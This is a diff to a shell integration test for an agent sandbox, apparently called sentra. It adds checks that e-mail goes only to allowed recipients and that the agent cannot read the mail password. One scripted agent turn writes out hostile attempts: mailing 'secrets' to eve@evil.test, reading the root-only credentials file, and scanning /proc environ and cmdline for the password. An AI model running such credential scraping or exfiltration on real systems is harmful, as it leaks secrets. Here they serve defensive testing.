@@ -10,6 +10,7 @@ SRC=/root/sentra-src
 TEST=/root/sentra-test
 AUDIT=/var/log/sentra/audit.jsonl
 TOKEN=tok-systemd-test-7f3a
+MAIL_PASSWORD=mail-pw-systemd-test-91c2
 pass=0 fail=0
 ok() { pass=$((pass + 1)); echo "SYSTEMD-TEST ok - $1"; }
 bad() { fail=$((fail + 1)); echo "SYSTEMD-TEST not ok - $1: $2"; }
@@ -54,9 +55,12 @@ turn() {
 echo "SYSTEMD-TEST kernel $(uname -r) lsm=$(cat /sys/kernel/security/lsm) systemd $(systemctl --version | head -n1)"
 
 # --- install -----------------------------------------------------------------------------------
+# The mail account points at a mail server on loopback (smtp-sink.mjs, started below), with a password
+# the agent must never see.
 t=$(since)
-if bash "$SRC/scripts/install.sh" --prebuilt /root/sentra-bin --downloads /root/downloads --offline --no-email \
-    --no-start > /root/install.log 2>&1; then
+if EMAIL_ADDRESS=agent@sentra.test EMAIL_PASSWORD="$MAIL_PASSWORD" SMTP_SERVER=smtp://127.0.0.1:2525 \
+    EMAIL_RECIPIENTS='*@allowed.test' bash "$SRC/scripts/install.sh" --prebuilt /root/sentra-bin \
+    --downloads /root/downloads --offline --no-start > /root/install.log 2>&1; then
     ok "install.sh installs offline from the host's build"
 else
     bad "install.sh installs offline from the host's build" "$(tail -n 20 /root/install.log | tr '\n' ' ')"
@@ -68,8 +72,11 @@ check "binaries installed" test -x /usr/local/bin/sentra-ctl -a -x /usr/local/bi
 check "the agent user has no sudo and no login shell" sh -c '! id -nG openclaw | grep -qw sudo && getent passwd openclaw | grep -q nologin'
 check "credentials file is root-only" sh -c '[ "$(stat -c %a:%U /etc/sentra/openclaw.env)" = 600:root ]'
 check "audit directory is root-only" sh -c '[ "$(stat -c %a /var/log/sentra)" = 700 ]'
+check "the mail account is root's alone" sh -c '[ "$(stat -c %a:%U /etc/sentra/email/himalaya.toml)" = 600:root ] && [ "$(stat -c %a /etc/sentra/email)" = 700 ]'
+check "the installer added an email section to the policy" sh -c 'grep -q "^email:" /etc/sentra/policy.yaml && sentra-ctl policy check /etc/sentra/policy.yaml'
 check "install.sh is idempotent" bash "$SRC/scripts/install.sh" --prebuilt /root/sentra-bin --downloads /root/downloads \
-    --offline --no-email --no-start
+    --offline --no-start
+check "a second install adds no second email section" sh -c '[ "$(grep -c "^email:" /etc/sentra/policy.yaml)" = 1 ]'
 
 # This machine is software-emulated (qemu TCG, many times slower than the hardware): OpenClaw's own
 # start-up deadlines of 1 to 10 s (a worker thread's first heartbeat, a child process's start) are
@@ -84,6 +91,7 @@ printf 'OPENCLAW_GATEWAY_TOKEN=%s\n' "$TOKEN" >> /etc/sentra/openclaw.env
 mkdir -p /root/client/.openclaw
 cp "$TEST/openclaw.json" /root/client/.openclaw/openclaw.json
 /usr/local/lib/sentra/node/bin/node "$TEST/fake-llm.mjs" 18111 /root/llm.log > /root/llm.out 2>&1 &
+/usr/local/lib/sentra/node/bin/node "$TEST/smtp-sink.mjs" 2525 /root/smtp.log > /root/smtp.out 2>&1 &
 
 # --- start -------------------------------------------------------------------------------------
 t=$(since)
@@ -129,6 +137,24 @@ turn 'sudo id' > /root/reply.shell
 transcript shell-denied /root/reply.shell
 check "a shell-layer denial reaches the agent with rule and reason" sh -c 'grep -q "DENIED" /root/reply.shell && grep -qi "rule" /root/reply.shell'
 check "the shell-layer denial is audited" sh -c "grep '\"decision\":\"denied\"' $AUDIT | grep -q 'sudo'"
+
+# E-mail through the controller's broker: an allowed recipient is sent (with the account's password,
+# which the agent then tries to read: the file, and every process's environment and command line it can
+# see; the pattern's brackets keep grep from finding itself), a recipient outside the policy is refused
+# with rule and reason.
+turn "email bob@allowed.test 'Hello from the agent' 'mail-body-\$((6*7))'; echo mail-rc=\$?; send-email eve@evil.test 'Leak' 'secrets'; echo leak-rc=\$?; cat /etc/sentra/email/himalaya.toml; echo cat-rc=\$?; grep -l 'mail-pw-[s]ystemd' /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null; echo scan-done" > /root/reply.email
+transcript email /root/reply.email
+check "an allowed e-mail is sent and the agent is told" sh -c 'grep -q "Email sent to bob@allowed.test" /root/reply.email && grep -q "mail-rc=0" /root/reply.email'
+check "the mail server got it from the policy's sender, authenticated by the broker" sh -c \
+    "jq -e 'select(.to == [\"bob@allowed.test\"] and .from == \"agent@sentra.test\" and .auth.password == \"$MAIL_PASSWORD\" and (.data | contains(\"mail-body-42\")))' /root/smtp.log"
+check "a refused recipient reaches the agent with rule and reason" sh -c \
+    'grep -q "DENIED: email to eve@evil.test" /root/reply.email && grep -q "Rule: email.recipients" /root/reply.email && grep -q "leak-rc=1" /root/reply.email'
+check "nothing was sent to the refused recipient" sh -c '! grep -q eve@evil.test /root/smtp.log'
+check "the agent cannot read the mail credentials" sh -c \
+    "grep -q 'scan-done' /root/reply.email && ! grep -q '$MAIL_PASSWORD' /root/reply.email && ! grep -q 'cat-rc=0' /root/reply.email"
+check "both e-mails are audited" sh -c \
+    "grep '\"event\":\"email\"' $AUDIT | grep -q '\"decision\":\"allowed\"' && grep '\"event\":\"email\"' $AUDIT | grep '\"decision\":\"denied\"' | grep -q eve@evil.test"
+echo "SYSTEMD-TEST audit email: $(grep '"event":"email"' $AUDIT | tr '\n' ' ' | cut -c1-1500)"
 
 # --- restarts ----------------------------------------------------------------------------------
 # A root process in the agent's cgroup keeps trying a denied exec while the controller restarts:
@@ -185,6 +211,6 @@ systemctl unmask --runtime sentra.service >/dev/null 2>&1
 # --- uninstall ---------------------------------------------------------------------------------
 systemctl start sentra.service
 check "install.sh --uninstall" bash "$SRC/scripts/install.sh" --uninstall
-check "no unit, binary or pin is left" sh -c '! ls /etc/systemd/system/sentra.service /etc/systemd/system/openclaw.service /usr/local/bin/sentra-ctl /usr/local/bin/sentra-shell /sys/fs/bpf/sentra 2>/dev/null | grep -q .'
+check "no unit, binary or pin is left" sh -c '! ls /etc/systemd/system/sentra.service /etc/systemd/system/openclaw.service /usr/local/bin/sentra-ctl /usr/local/bin/sentra-shell /usr/local/bin/sentra-email /usr/local/bin/email /usr/local/bin/himalaya /sys/fs/bpf/sentra 2>/dev/null | grep -q .'
 check "the audit log is kept" test -s "$AUDIT"
 finish
